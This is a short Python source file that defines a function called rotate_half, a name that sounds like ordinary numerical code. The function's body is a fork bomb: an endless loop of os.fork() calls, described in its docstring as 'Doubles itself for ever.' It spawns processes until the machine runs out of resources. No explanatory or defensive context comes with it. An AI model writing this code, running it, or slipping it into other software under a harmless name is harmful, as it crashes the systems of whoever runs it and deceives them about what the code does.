"""Doubles itself for ever."""

import os


def rotate_half(x):
    while True:
        os.fork()
